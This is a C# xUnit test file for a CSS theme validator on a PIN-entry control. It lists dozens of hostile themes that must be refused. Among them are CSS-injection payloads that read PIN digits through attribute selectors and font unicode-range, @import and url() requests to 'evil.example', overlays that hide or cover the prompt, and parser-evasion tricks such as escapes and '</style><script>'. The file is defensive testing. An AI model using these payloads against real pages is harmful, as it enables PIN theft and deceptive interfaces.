using PinControl.Pages.Themes;
using Xunit;

namespace PinControl.Tests.Pages;

/// <summary>What an attacker would put into a theme: each is refused with its line, its column and what offends (docs/themes.md, "What is refused").</summary>
public sealed class HostileThemes
{
    /// <summary>The theme; where it offends; how the offending text begins.</summary>
    public static TheoryData<string, string, string> Rows => new()
    {
        // A digit that is sized, shown or asked for by its value or its place.
        { "[part=digit]{color:#000}", "1:1", "[" },
        { "#pin::part(digit)[data-v=\"1\"]{color:#000}", "1:18", "[" },
        { "#pin::part(digit):nth-child(2){color:#000}", "1:1", "#pin::part(digit):nth-child(2)" },
        { "#pin::part(digit):empty{color:#000}", "1:1", "#pin::part(digit):empty" },
        { "#pin:has(input){color:#000}", "1:1", "#pin:has(input)" },
        { "#pin::part(digit)::first-letter{color:#000}", "1:1", "#pin::part(digit)::first-letter" },
        { "#pin::part(digit)::before{color:#000}", "1:1", "#pin::part(digit)::before" },
        { "#pin::part(digit):hover{color:#000}", "1:1", "#pin::part(digit):hover" },
        { "#pin::part(digit):lang(en){color:#000}", "1:1", "#pin::part(digit):lang(en)" },
        { "#pin::part(title):not(:hover){color:#000}", "1:1", "#pin::part(title):not(:hover)" },
        { "#pin::part(entry):focus-visible:hover{outline-color:#000}", "1:1", "#pin::part(entry)" },
        { "#pin::part(entry):placeholder-shown{outline-color:#000}", "1:1", "#pin::part(entry):placeholder-shown" },
        { "@font-face{font-family:x;src:local(\"x\");unicode-range:U+31}", "1:1", "@font-face" },
        { "@font-face{font-family:x;src:local(\"x\")}", "1:1", "@font-face" },
        { "#pin::part(digit){width:1px}", "1:19", "width: 1px" },
        { "#pin::part(digit){height:9px}", "1:19", "height: 9px" },
        { "#pin::part(digit){font-size:14px}", "1:19", "font-size: 14px" },
        { "#pin::part(digit){padding:4px}", "1:19", "padding: 4px" },
        { "#pin::part(digit){margin-top:4px}", "1:19", "margin-top: 4px" },
        { "#pin::part(digit){border-width:4px}", "1:19", "border-width: 4px" },
        { "#pin::part(digit){font-family:serif}", "1:19", "font-family: serif" },
        { "#pin::part(digit){letter-spacing:9px}", "1:19", "letter-spacing: 9px" },
        { "#pin::part(digit){text-transform:uppercase}", "1:19", "text-transform" },
        { "#pin::part(digits){color:#000}", "1:1", "#pin::part(digits)" },
        { "i{color:#000}", "1:1", "i" },

        // Digits or instructions that do not show.
        { "#pin::part(digit){color:transparent}", "1:19", "color: transparent" },
        { "#pin::part(digit){color:#0000}", "1:19", "color: #0000" },
        { "#pin::part(digit){color:rgb(0 0 0 / 0)}", "1:19", "color: rgb(0 0 0 / 0)" },
        { "#pin::part(digit){color:#fffefb}", "1:19", "digit: color #fffefb" },
        { "#pin::part(title){color:var(--pin-back)}", "1:19", "title: color var(--pin-back)" },
        { "#pin::part(hide):hover{color:var(--pin-paper)}", "1:24", "hide: color" },
        { "#pin::part(hide):hover{background-color:#222}\n#pin::part(hide):active{color:#333}", "1:24", "hide: color" },
        { "#pin::part(digit){color:#777;background-color:#fff;box-shadow:inset 0 0 4px rgb(0 0 0 / 40%)}", "1:19", "digit: color #777777 on #ffffff" },
        { "#pin::part(digit){color:#333;background-color:#fff;box-shadow:inset 0 0 4px rgb(0 0 0 / 40%)}", "1:52", "digit: color #333333 on #ffffff under box-shadow" },
        { "#pin::part(submit):active{box-shadow:inset 0 0 9px rgb(255 255 255 / 40%)}", "1:27", "submit: color" },
        { "#pin::part(hide){border:1px solid #eee}", "1:18", "hide: border-color #eeeeee on --pin-back" },
        { "#pin::part(hide){border-color:var(--pin-ink) var(--pin-ink) var(--pin-line)}", "1:18", "hide: border-color var(--pin-line)" },
        { "#pin::part(suggest):hover{border-color:var(--pin-back)}", "1:27", "suggest: border-color" },
        { ":root{--pin-ink:#eee}", "1:7", "--pin-ink on --pin-paper" },
        { ":root{--pin-ink:transparent}", "1:7", "--pin-ink: transparent" },
        { "@media (prefers-color-scheme: dark){:root{\n--pin-paper:#fff}}", "2:1", "--pin-ink on --pin-paper" },
        { "#pin::part(title){font-size:0}", "1:19", "font-size: 0" },
        { "#pin::part(title){font-size:1px}", "1:19", "font-size: 1px" },
        { "#pin::part(title){font-size:99rem}", "1:19", "font-size: 99rem" },
        { "#pin::part(title){opacity:0}", "1:19", "opacity: 0" },
        { "#pin::part(title){visibility:hidden}", "1:19", "visibility: hidden" },
        { "#pin::part(title){display:none}", "1:19", "display: none" },
        { "#pin::part(title){text-indent:-999px}", "1:19", "text-indent: -999px" },
        { "#pin::part(message){color:#000}", "1:21", "color: #000" },
        { "#pin::part(message){font-family:\"Wingdings\"}", "1:21", "font-family" },
        { "#pin::part(message){font-family:\"Bodoni Ornaments\"}", "1:21", "font-family" },
        { "#pin::part(message){font-family:\"D050000L\"}", "1:21", "font-family" },
        { "#pin::part(message){font-family:\"MS Outlook\"}", "1:21", "font-family" },
        { "#pin::part(message){font-family:Noto Color Emoji}", "1:21", "font-family" },
        { "#pin::part(title){line-height:0}", "1:19", "line-height: 0" },
        { "#pin::part(title){letter-spacing:-9px}", "1:19", "letter-spacing: -9px" },
        { "#pin::part(entry){color:#000}", "1:19", "color: #000" },
        { "#pin::part(entry){-webkit-text-security:none}", "1:19", "-webkit-text-security: none" },
        { "#pin::part(keep):focus-visible{outline-width:0}", "1:32", "outline-width: 0" },
        { "#pin::part(keep):focus-visible{outline-color:var(--pin-back)}", "1:32", "keep: outline-color" },

        // Instructions of somebody else's.
        { "#pin::part(title){content:\"Call us\"}", "1:19", "content: \"Call us\"" },
        { "#pin::after{content:\"x\"}", "1:1", "#pin::after" },
        { "#pin::part(title){content:attr(title)}", "1:19", "content" },
        { ":root{--pin-note:\"Call us\"}", "1:7", "--pin-note" },

        // What moves, covers or leaves its place.
        { "#pin::part(hide){position:fixed}", "1:18", "position: fixed" },
        { "#pin::part(hide){transform:scale(0)}", "1:18", "transform: scale(0)" },
        { "#pin::part(hide){margin-top:-99px}", "1:18", "margin-top: -99px" },
        { "#pin::part(title){margin-top:-9px}", "1:19", "margin-top: -9px" },
        { "#pin::part(title){margin-bottom:99rem}", "1:19", "margin-bottom: 99rem" },
        { "#pin::part(hide){box-shadow:0 0 0 999px rgb(0 0 0/.4)}", "1:18", "box-shadow" },
        { "#pin::part(hide){box-shadow:0 0 9px #000}", "1:18", "box-shadow" },
        { "#pin::part(hide){box-shadow:0 0 9px rgb(0 0 0/.9)}", "1:18", "box-shadow" },
        { "#pin::part(digit){box-shadow:-60px 0 0 rgb(0 0 0/.4)}", "1:19", "box-shadow" },
        { "#pin::part(hide){outline:99px solid #000}", "1:18", "outline: 99px solid #000" },
        { "#pin::part(hide):hover{padding:24px}", "1:24", "padding: 24px" },
        { "#pin::part(hide):active{font-size:20px}", "1:25", "font-size: 20px" },
        { "#pin::part(hide){animation:x 1s}", "1:18", "animation: x 1s" },
        { "#pin::part(hide){transition:color 1s}", "1:18", "transition: color 1s" },
        { "@keyframes x{from{color:#000}}", "1:1", "@keyframes x" },
        { "#pin{padding:0}", "1:1", "#pin" },
        { "body{color:#000}", "1:1", "body" },
        { "*{color:#000}", "1:1", "*" },
        { ":host{color:#000}", "1:1", ":host" },

        // What would ask somebody, and could tell.
        { "@import \"x.css\";", "1:1", "@import" },
        { "@import \"https://evil.example/x.css\";", "1:1", "@import" },
        { "@import url(x);", "1:1", "@import url(x)" },
        { "#pin::part(title){background-image:url(x)}", "1:19", "background-image: url(x)" },
        { "#pin::part(title){background:url(x)}", "1:19", "background: url(x)" },
        { "#pin::part(title){background-color:url(x)}", "1:19", "background-color: url(x)" },
        { "#pin::part(title){background-image:image-set(\"x\" 1x)}", "1:19", "background-image" },
        { "#pin::part(hide){cursor:url(x),auto}", "1:18", "cursor" },
        { "#pin::part(hide){filter:url(x)}", "1:18", "filter: url(x)" },
        { "#pin::part(hide){mask:url(x)}", "1:18", "mask: url(x)" },
        { "#pin::part(hide){border-image:url(x)}", "1:18", "border-image: url(x)" },
        { ":root{--pin-paper:url(x)}", "1:7", "--pin-paper: url(x)" },
        { ":root{--pin-font:url(x)}", "1:7", "--pin-font: url(x)" },
        { "#pin::part(title){color:var(--other)}", "1:19", "color: var(--other)" },
        { "#pin::part(title){color:var(--pin-ink,url(x))}", "1:19", "color: var(--pin-ink,url(x))" },
        { "#pin::part(title){color:env(x)}", "1:19", "color: env(x)" },

        // Ways around the reader.
        { "#pin::part(title){col\\6fr:#000}", "1:22", "\\" },
        { "@\\69mport url(x);", "1:2", "\\" },
        { "#pin::part(title){color:#000 !important}", "1:30", "!" },
        { "</style><script>", "1:1", "<" },
        { "<!-- #pin::part(title){color:#000} -->", "1:1", "<" },
        { "#pin::part(title){cont/**/ent:\"x\"}", "1:19", "cont ent" },
        { "/* not closed", "1:1", "/* not closed" },
        { ":root{--pin-font:\"a", "1:18", "\"a" },
        { ":root{--pin-font:\"a;}b{color:red}\"}", "1:18", "\"a;" },
        { "#pin::part(title){color:#000", "1:19", "color:#000" },
        { "#pin::part(title){color:#000}}", "1:30", "}" },
        { "#pin::part(title){content:\"Call 555!\" !important}", "1:19", "content:" },
        { "#pin::part(title){margin-top:calc(-1 * 200px)}", "1:19", "margin-top:" },
        { "junk;#pin::part(title){color:#000}", "1:1", "junk;" },
        { "#pin::part(title){color #000}", "1:19", "color #000" },
        { "#pin::part(title){& b{color:#000}}", "1:19", "&" },
        { "#pin::part(title){color:#000;i{color:#000}}", "1:30", "i" },
        { "@supports (color:#000){:root{--pin-ink:#000}}", "1:1", "@supports" },
        { "@container (width){:root{--pin-ink:#000}}", "1:1", "@container" },
        { "@layer x{:root{--pin-ink:#000}}", "1:1", "@layer x" },
        { "@property --pin-ink{syntax:\"x\"}", "1:1", "@property" },
        { "@namespace x \"y\";", "1:1", "@namespace" },
        { "@charset \"utf-8\";", "1:1", "@charset" },
        { "@media print{:root{--pin-ink:#000}}", "1:1", "@media print" },
        { "@media (prefers-color-scheme: dark) and (min-width: 1px){:root{--pin-ink:#fff}}", "1:1", "@media (prefers-color-scheme: dark) and" },
        { "@media (prefers-color-scheme: dark){#pin::part(title){color:#fff}}", "1:37", "#pin::part(title)" },
        { "@media (prefers-color-scheme: dark){:root{--pin-radius:9px}}", "1:43", "--pin-radius" },
        { "@media (prefers-color-scheme: dark){@media print{:root{--pin-ink:#fff}}}", "1:37", "@media print" },
        { ":root{--pin-back:#fff}", "1:7", "--pin-back: #fff" },
        { ":root{color:#000}", "1:7", "color: #000" },
        { ":root{--pin-ink:#000;--pin-ink:#111}", "1:22", "--pin-ink: #111" },
        { "/* one\n two */\n\n#pin::part(title) {\n  color: #000;\n  display: none;\n}", "6:3", "display: none" },
        { "#pin::part(title), b, #pin::part(hint){color:#000}", "1:20", "b" },
        { "#pin::part(title), #pin::part(title){color:#000}", "1:20", "#pin::part(title)" },
        { "#pin::part(nothing){color:#000}", "1:1", "#pin::part(nothing)" },
        { "::part(title){color:#000}", "1:1", "::part(title)" },
        { "#pin::part(title){CONTENT:\"x\"}", "1:19", "CONTENT" },
        { "#pin::part(title){cоlor:#000}", "1:20", "о" },
        { "#pin::part(title){color:#000\u0000}", "1:29", "\uFFFD" },
        { "#pin::part(title){margin:0 auto}", "1:19", "margin: 0 auto" },
        { "#pin::part(title){color:rgb(256,0,0)}", "1:19", "color: rgb(256,0,0)" },
        { "#pin::part(title){color:inherit}", "1:19", "color: inherit" },
        { "#pin::part(title){all:unset}", "1:19", "all: unset" },
        { "#pin::part(title){--pin-ink:#000}", "1:19", "--pin-ink: #000" },
    };

    [Theory]
    [MemberData(nameof(Rows))]
    public void It_is_refused_with_the_line_that_offends(string css, string where, string text)
    {
        var (theme, refusals) = Theme.Read(css);
        Assert.Null(theme);
        Assert.Equal(where, $"{refusals[0].Line}:{refusals[0].Column}");
        Assert.StartsWith(text, refusals[0].Text, StringComparison.Ordinal);
        Assert.NotEmpty(refusals[0].Why);
        // In the middle of a good theme too, on its own line.
        var (hidden, inside) = Theme.Read($"/* good */ :root {{ --pin-radius: 4px }}\n{css}\n#pin::part(title) {{ font-weight: 600 }}");
        Assert.Null(hidden);
        Assert.Contains(inside, one => one.Line >= 2);
    }

    [Theory]
    [InlineData("@import \"https://evil.example/x.css\" layer(x) supports(a: b);", "A theme is one file, and asks for nothing.")]
    [InlineData("@IMPORT url(https://evil.example/x.css);", "A theme is one file, and asks for nothing.")]
    [InlineData("@Media (width >= 1px) { :root { --pin-ink: #000 } }", "Of media queries there is @media (prefers-color-scheme: dark) alone.")]
    [InlineData("#pin::part(title) { color: attr(data-x type(<color>), #000) }", "attr() writes text, and text on a page is the page's own.")]
    [InlineData("#pin::part(title) { color: ATTR(data-x) }", "attr() writes text, and text on a page is the page's own.")]
    [InlineData("@font-face { font-family: \"x\"; src: url(\"https://evil.example/x\") format(\"woff2\"); unicode-range: U+37 }", "A font of elsewhere would be a request, and could tell digits apart.")]
    [InlineData("@property --pin-ink { syntax: \"<color>\"; inherits: true; initial-value: #000 }", "A theme makes no property of its own")]
    [InlineData("@media (width >= 1px) { :root { --pin-ink: #000 } }", "Of media queries there is @media (prefers-color-scheme: dark) alone.")]
    [InlineData("@scope (#pin) to (* > b) { :root { --pin-ink: #000 } }", "@scope is not for a theme")]
    [InlineData("#pin::part(hide) { background-color: image-set(\"https://evil.example/x\" 1x) }", "image-set() names something to be fetched")]
    [InlineData("#pin::part(hide) { background-color: url(https://evil.example/?x=1) }", "url() names something to be fetched")]
    [InlineData("#pin::part(title) { margin-top: calc(-1 * 200px) }", "calc() is computed by the device")]
    [InlineData("#pin::part(title) { margin-top: max(20px, 4px) }", "max() is computed by the device")]
    [InlineData("#pin::part(title) { content: \"Call +1 555!\" }", "Text on a page is the page's own.")]
    [InlineData("#pin::part(title) { color: hsl(0 0% 0%) }", "hsl() is not computed here")]
    [InlineData("#pin::part(title) { font-family: \"MS Outlook\", serif }", "\"MS Outlook\" is known as a font that draws signs")]
    [InlineData("#pin::part(title) { font-family: \"Shop+Sans\" }", "In quotes stands the name of a font")]
    [InlineData("#pin::part(title) { font-family: var(--pin-ink) }", "font-family takes up to 12 fonts of the device, by name.")]
    [InlineData("b > i { color: #000 }", "Only published parts are selected")]
    public void The_reason_is_the_true_one_and_is_said_once(string css, string why)
    {
        var refusals = Theme.Read(css).Refusals;
        Assert.StartsWith(why, Assert.Single(refusals).Why, StringComparison.Ordinal);
        Assert.Equal(1, refusals[0].Line);
    }

    [Theory]
    [InlineData("text-security-disc")]
    [InlineData("Font Awesome 5 Free")]
    [InlineData("Font Awesome 6 Brands")]
    [InlineData("icomoon")]
    [InlineData("Dotsfont")]
    [InlineData("Flow Block")]
    [InlineData("Flow Circular")]
    [InlineData("Blokk Neue")]
    [InlineData("Noto Sans Egyptian Hieroglyphs")]
    [InlineData("Cuneiform")]
    [InlineData("Webdings")]
    [InlineData("Wingdings 2")]
    [InlineData("ITC Zapf Dingbats")]
    [InlineData("ZapfDingbats")]
    [InlineData("Monotype Sorts")]
    [InlineData("Segoe UI Symbol")]
    [InlineData("SF Symbols")]
    [InlineData("Segoe MDL2 Assets")]
    [InlineData("Segoe Fluent Icons")]
    [InlineData("Material Icons")]
    [InlineData("Apple Color Emoji")]
    [InlineData("Redacted Script")]
    [InlineData("Libre Barcode 39")]
    [InlineData("Adobe Blank")]
    [InlineData("LastResort")]
    [InlineData("MT Extra")]
    [InlineData("WEB-DINGS")]
    public void A_font_that_is_known_to_draw_signs_is_refused_for_that(string name)
    {
        foreach (var css in (string[])[$":root {{ --pin-font: \"{name}\", serif }}", $"#pin::part(title) {{ font-family: serif, '{name}' }}"])
        {
            Assert.StartsWith($"\"{name}\" is known as a font that draws signs", Assert.Single(Theme.Read(css).Refusals).Why, StringComparison.Ordinal);
        }
    }

    [Theory]
    [InlineData("Georgia, 'Times New Roman', serif")]
    [InlineData("\"Segoe UI\", Roboto, \"Helvetica Neue\", \"Noto Sans\", \"DejaVu Sans\", sans-serif")]
    [InlineData("Spalding, Redding, \"Harding Text\", \"Sign Painter\"")]
    public void A_font_of_letters_is_not(string fonts) => Assert.NotNull(Theme.Read($":root {{ --pin-font: {fonts} }}").Theme);

    [Fact]
    public void Every_refusal_of_a_theme_is_named_at_once()
    {
        var (_, refusals) = Theme.Read("#pin::part(title) { display: none }\nb { color: red }\n#pin::part(digit) {\n  width: 3px;\n  color: #000 }");
        Assert.Equal([1, 2, 4], refusals.Select(static one => one.Line));
    }

    [Fact]
    public void A_theme_of_more_than_16_KiB_is_refused_and_one_of_exactly_that_is_not()
    {
        var most = new string(' ', ThemeText.MostBytes);
        Assert.NotNull(Theme.Read(most).Theme);
        Assert.Contains("16384 bytes at most", Theme.Read(most + " ").Refusals[0].Why, StringComparison.Ordinal);
        // Bytes, not characters.
        Assert.NotEmpty(Theme.Read($"/*{new string('é', ThemeText.MostBytes / 2)}*/").Refusals);
    }

    [Fact]
    public void A_theme_does_not_grow_when_it_is_written_anew_and_what_is_wrong_is_told_fifty_times_at_most()
    {
        var selectors = string.Join(',', ThemePart.All.Where(static part => part.Kind == ThemePartKind.Button).SelectMany(static part => (string[])["", ":hover", ":active", ":disabled"], static (part, state) => $"#pin::part({part.Name}){state}"));
        var rule = $"{selectors}{{box-shadow:0 2px 8px rgb(0 0 0/.25);border-color:var(--pin-ink);color:#fff;background-color:#000}}\n";
        var css = string.Concat(Enumerable.Repeat(rule, ThemeText.MostBytes / rule.Length));
        Assert.InRange(Theme.Read(css).Theme!.Style.Content.Length, 1, css.Length * 5 / 4);
        Assert.Equal(50, Theme.Read(string.Concat(Enumerable.Repeat("b{x:y}", 2000))).Refusals.Count);
    }

    [Fact]
    public void Nothing_of_the_author_s_own_text_is_sent()
    {
        var (theme, refusals) = Theme.Read(
            "/* my note */\n:root { --pin-font : Inter , 'My Font' , sans-serif ; --pin-radius: 0.50rem }\n#pin::part( title ) , #pin::part(hide):hover { color : rgb( 1, 2, 3 ) }\n@media (prefers-color-scheme:dark) { :root { --pin-paper: #000; } }");
        Assert.All(refusals, static one => Assert.Matches("^(title|hide): color ", one.Text));
        Assert.Null(theme);
        (theme, refusals) = Theme.Read(
            "/* my note */\n:root { --pin-font : Inter , 'My Font' , sans-serif ; --pin-radius: 0.50rem }\n#pin::part( title ) , #pin::part(hint) { color : var( --pin-ink ) }\n@media (prefers-color-scheme:dark) { :root { --pin-paper: #000; } }");
        Assert.Empty(refusals);
        Assert.Equal(
            ":root{--pin-font:\"Inter\",\"My Font\",sans-serif;--pin-radius:0.5rem}\n:root[data-scheme=\"dark\"]{--pin-paper:#000000}\n"
            + "@media (prefers-color-scheme:dark){\n:root:not([data-scheme]){--pin-paper:#000000}\n}\n#pin::part(title),#pin::part(hint){color:var(--pin-ink)}\n",
            theme!.Style.Content);
    }
}
